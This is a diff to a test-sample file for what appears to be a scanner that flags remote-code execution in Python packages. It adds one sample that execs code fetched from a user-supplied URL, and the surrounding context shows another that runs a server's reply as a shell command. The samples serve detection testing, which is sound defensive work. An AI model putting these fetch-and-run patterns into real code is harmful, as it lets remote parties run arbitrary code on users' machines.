@@ -27,6 +27,13 @@ export const samples: Samples = {
       expected: [at('remote-code', 'high', 3, 'own/__init__.py')],
     },
     {
+      name: 'Python: a plugin from an address that its user gives, which is less sure',
+      files: wheel(
+        'import urllib.request\ndef load(address):\n    exec(urllib.request.urlopen(address).read(), {})\n',
+      ),
+      expected: [at('remote-code', 'medium', 3, 'own/__init__.py')],
+    },
+    {
       name: 'Python: a function that starts what a server answers',
       files: wheel(
         'import requests, subprocess\ndef poll():\n    subprocess.run(requests.get("https://a.weir.test/c").text, shell=True)\n',
